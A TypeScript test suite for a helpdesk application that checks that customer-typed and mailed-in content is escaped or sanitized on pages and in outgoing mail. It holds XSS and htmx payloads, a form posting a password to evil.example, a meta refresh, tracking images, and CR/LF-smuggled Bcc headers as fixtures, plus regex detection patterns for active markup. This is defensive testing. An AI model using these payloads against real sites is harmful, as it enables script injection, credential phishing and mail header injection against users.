import t, { type Test } from 'tap';
import { nowIso } from '../../src/lib/time.js';
import { receiveMessage } from '../../src/mailin/receive.js';
import { BYTES, postMultipart } from '../attachments/helpers.js';
import { buildTestDesk } from '../helpers/app.js';
import { Client } from '../helpers/client.js';
import { makeUser, PASSWORD } from '../helpers/factories.js';
import { header, TestSmtpServer } from '../helpers/smtp.js';
import { deskWithTicket, depsOf } from '../mailin/helpers.js';

/**
 * Markup that would run, load or wire up htmx if it ever reached a page or a mail unescaped. Handler
 * patterns look at tags with their quoted attribute values blanked out, so escaped text inside an
 * attribute (a file's name in an aria-label) is not mistaken for an attribute of its own.
 */
const ACTIVE: [string, RegExp, 'raw' | 'tags'][] = [
  ['a script element', /<script(?![^>]*\bsrc="\/public\/)/i, 'raw'],
  ['an event handler', /<[a-z][^>]*\son(error|load|click|mouseover)\s*=/i, 'tags'],
  ['an htmx attribute from user content', /\s(data-)?hx-[a-z:-]+\s*=\s*["']?[^"'\s>&]*evil/i, 'raw'],
  ['an hx-on handler', /<[a-z][^>]*\s(data-)?hx-on[:-]/i, 'tags'],
  ['a javascript: link', /\s(href|src|action)\s*=\s*["']?\s*javascript:/i, 'raw'],
  ['an svg element from user content', /<svg[^>]*onload/i, 'raw'],
  ['a remote image', /<img[^>]*src=["']?https?:\/\/tracker/i, 'raw'],
  ['a form from user content', /<form[^>]*evil/i, 'raw'],
  ['a meta refresh', /<meta[^>]*http-equiv=["']?refresh/i, 'raw'],
  ['an iframe', /<iframe/i, 'raw'],
];

function assertInert(t: Test, label: string, html: string) {
  const tags = html.replace(/"[^"]*"/g, '""');
  for (const [what, pattern, view] of ACTIVE) {
    const text = view === 'raw' ? html : tags;
    const hit = pattern.exec(text);
    t.notOk(hit, `${label}: no ${what}${hit ? `: ${text.slice(Math.max(0, hit.index - 80), hit.index + 160)}` : ''}`);
  }
}

const NAME = '<img src=x onerror=alert(1)><b hx-get="/evil-name">';
const SUBJECT = '<script>alert("subject")</script><a hx-on:click="alert(1)" href="/evil">';
const MESSAGE = [
  '<script>alert("message")</script>',
  '<div hx-get="/evil-hx" hx-trigger="load" data-hx-post="/evil-data">boom</div>',
  '<button hx-on:click="alert(2)" hx-on--after-swap="alert(3)">x</button>',
  '[click me](javascript:alert(4)) and <a href="javascript:alert(5)">raw</a>',
  '![pixel](https://tracker.example/p.png)',
  '<form action="https://evil.example/steal"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
].join('\n\n');
const FIELD = '<svg onload=alert(6)></svg>';
const FILENAME = "'><img src=x onerror=alert(7)>.png";

t.test('script, handler and htmx payloads typed by a customer come out escaped on every page and in mail', async (t) => {
  const { app, db } = await buildTestDesk(t);
  const now = nowIso();
  const type = await db.insertInto('ticket_types').values({ name: 'IT support', created_at: now, position: 1 }).returning('id').executeTakeFirstOrThrow();
  const field = await db.insertInto('fields').values({ key: 'serial', label: 'Serial', kind: 'text', created_at: now }).returning('id').executeTakeFirstOrThrow();
  await db.insertInto('ticket_type_fields').values({ type_id: type.id, field_id: field.id, position: 1 }).execute();
  await db.insertInto('settings').values({ key: 'portal.default_type_id', value: String(type.id) }).execute();
  const agentUser = await makeUser(db, 'agent');
  const cora = await makeUser(db, 'customer');
  const customer = new Client(app);
  await customer.login(cora.email, PASSWORD);
  await customer.get('/account');
  t.equal((await customer.post('/account', { name: NAME, locale: 'en', timeZone: '' })).statusCode, 303, 'the name is saved as typed');
  t.equal((await db.selectFrom('users').select('name').where('id', '=', cora.id).executeTakeFirstOrThrow()).name, NAME);

  await customer.get('/portal/tickets/new');
  const res = await postMultipart(app, customer, '/portal/tickets', [
    { name: '_csrf', value: customer.csrf }, { name: 'typeId', value: String(type.id) },
    { name: 'subject', value: SUBJECT }, { name: 'message', value: MESSAGE }, { name: 'field_serial', value: FIELD },
    { name: 'files', filename: FILENAME, content: BYTES.png, type: 'image/png' },
  ]);
  t.equal(res.statusCode, 303, 'stored as typed');
  const ticket = await db.selectFrom('tickets').select(['id', 'subject']).where('requester_id', '=', cora.id).executeTakeFirstOrThrow();
  t.equal(ticket.subject, SUBJECT);

  const agent = new Client(app);
  await agent.login(agentUser.email, PASSWORD);
  const pages = {
    'agent list': await agent.get('/agent/tickets?view=all'),
    'agent ticket': await agent.get(`/agent/tickets/${ticket.id}`),
    'agent ticket (htmx partial)': await agent.get(`/agent/tickets/${ticket.id}`, { 'hx-request': 'true', 'hx-request-type': 'partial' }),
    'portal home': await customer.get('/portal'),
    'portal ticket': await customer.get(`/portal/tickets/${ticket.id}`),
  };
  for (const [label, page] of Object.entries(pages)) {
    t.equal(page.statusCode, 200, `${label}: 200`);
    assertInert(t, label, page.body);
  }
  const agentPage = pages['agent ticket'].body;
  t.match(agentPage, '&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;', 'the subject is shown as text');
  t.match(agentPage, '&lt;script&gt;alert(&quot;message&quot;)&lt;/script&gt;', 'the message is shown as text');
  t.match(agentPage, 'hx-get=&quot;/evil-hx&quot;', 'htmx attributes in a message are text');
  t.match(agentPage, '&lt;svg onload=alert(6)&gt;', 'the custom field is text');
  t.match(agentPage, '&lt;img src=x onerror=alert(1)&gt;', 'the requester name is text');
  const file = await db.selectFrom('attachments').select('filename').executeTakeFirstOrThrow();
  t.match(file.filename, 'onerror=alert(7)', 'the filename is kept as text');
  t.match(agentPage, /&lt;img src=x onerror=alert\(7\)&gt;\.png/, 'and shown escaped');

  await app.worker.consume(); // the notifications consumer queues the confirmation
  const mails = await db.selectFrom('jobs').select('payload').where('kind', '=', 'mail').execute();
  t.ok(mails.length > 0, 'a confirmation mail was queued');
  for (const row of mails) {
    const mail = JSON.parse(String(row.payload)) as { html: string; subject: string };
    assertInert(t, `mail "${mail.subject}"`, mail.html);
  }
});

const HOSTILE_HTML = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"><style>body{background:url(https://tracker.example/bg.png)}</style></head>
<body><p>Hello <b>team</b></p>
<script>alert("mail")</script>
<p><a href="javascript:alert(1)">click</a> <a href=" JaVaScRiPt:alert(2)">again</a> <a href="https://docs.example/ok">docs</a></p>
<img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="x" onerror="alert(3)">
<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>
<div hx-get="/evil-hx" hx-trigger="load" data-hx-post="/evil-data" hx-on:click="alert(4)">htmx</div>
<iframe src="https://evil.example"></iframe><svg onload="alert(5)"></svg>
<p onmouseover="alert(6)" style="position:fixed">styled</p></body></html>`;

t.test('an HTML mail with scripts, javascript: links, forms, refresh, remote images and htmx is stored and shown inert', async (t) => {
  const desk = await deskWithTicket(t);
  const raw = Buffer.from([
    'From: Mallory <mallory@customer.test>', 'To: support@desk.test', 'Subject: Hostile HTML', 'Message-ID: <hostile-html-1@x>',
    'Date: Tue, 03 Mar 2026 10:00:00 +0000', 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '', HOSTILE_HTML, '',
  ].join('\r\n'));
  const outcome = await receiveMessage(depsOf(desk), raw);
  t.equal(outcome.status, 'stored');
  const ticketId = outcome.status === 'stored' ? outcome.ticketId : -1;
  const message = await desk.db.selectFrom('messages').select(['body_html', 'body_text']).where('ticket_id', '=', ticketId).executeTakeFirstOrThrow();
  const stored = message.body_html ?? '';
  assertInert(t, 'stored body', stored);
  t.notMatch(stored, /<(style|form|input|button|meta|iframe|svg)\b/i, 'no style, form, meta, iframe or svg elements kept');
  t.notMatch(stored, /\s(style|hx-[a-z:-]+|data-hx-[a-z-]+|on[a-z]+)=/i, 'no style, htmx or handler attributes kept');
  t.notMatch(stored, /<img[^>]*tracker\.example|url\(/, 'no remote image is loaded (it became a link)');
  t.match(stored, /<b>team<\/b>/, 'harmless formatting survives');
  t.match(stored, 'href="https://docs.example/ok"', 'an ordinary link survives');

  const agentUser = await makeUser(desk.db, 'agent');
  const agent = new Client(desk.app);
  await agent.login(agentUser.email, PASSWORD);
  const page = await agent.get(`/agent/tickets/${ticketId}`);
  t.equal(page.statusCode, 200);
  assertInert(t, 'agent page', page.body);
});

t.test('CR/LF in a sender\'s name and subject never adds a mail header', async (t) => {
  const smtp = new TestSmtpServer();
  await smtp.start(0);
  t.teardown(() => smtp.stop());
  const desk = await deskWithTicket(t, undefined, { smtpUrl: `smtp://127.0.0.1:${smtp.port}` });
  const injected = Buffer.from('Eve\r\nBcc: victim@x.test\r\nX-Injected: yes').toString('base64');
  const raw = Buffer.from([
    `From: =?utf-8?B?${injected}?= <eve@customer.test>`, 'To: support@desk.test',
    `Subject: =?utf-8?B?${Buffer.from('Help\r\nBcc: victim@x.test\nX-Injected: yes').toString('base64')}?=`,
    'Message-ID: <crlf-1@x>', 'Date: Tue, 03 Mar 2026 10:00:00 +0000', 'Content-Type: text/plain; charset=utf-8', '', 'Body', '',
  ].join('\r\n'));
  const outcome = await receiveMessage(depsOf(desk), raw);
  t.equal(outcome.status, 'stored', 'the mail is stored, not refused or failed');
  const ticketId = outcome.status === 'stored' ? outcome.ticketId : -1;

  // Staff answer; the customer is mailed the confirmation and the reply.
  const agentUser = await makeUser(desk.db, 'agent');
  const agent = new Client(desk.app);
  await agent.login(agentUser.email, PASSWORD);
  await agent.get(`/agent/tickets/${ticketId}`);
  const reply = await postMultipart(desk.app, agent, `/agent/tickets/${ticketId}/messages`, [
    { name: '_csrf', value: agent.csrf }, { name: 'kind', value: 'reply' }, { name: 'body', value: 'We are on it.' },
  ]);
  t.ok(reply.statusCode < 400, `the reply is accepted (${reply.statusCode})`);
  await desk.app.worker.drain();
  t.ok(smtp.received.length > 0, 'mail was delivered');
  for (const mail of smtp.received) {
    t.same(mail.to, ['eve@customer.test'], 'only the customer is a recipient');
    const head = mail.raw.split(/\r?\n\r?\n/)[0]!;
    t.notMatch(head, /^(Bcc|X-Injected):/im, 'no injected header line');
    t.equal(head.match(/^Subject:/gim)?.length, 1, 'one Subject header');
    t.notOk(header(mail.raw, 'bcc'));
  }
  t.equal((await desk.db.selectFrom('jobs').select('id').where('kind', '=', 'mail').where('state', '!=', 'done').execute()).length, 0,
    'no mail is stuck failing');
});
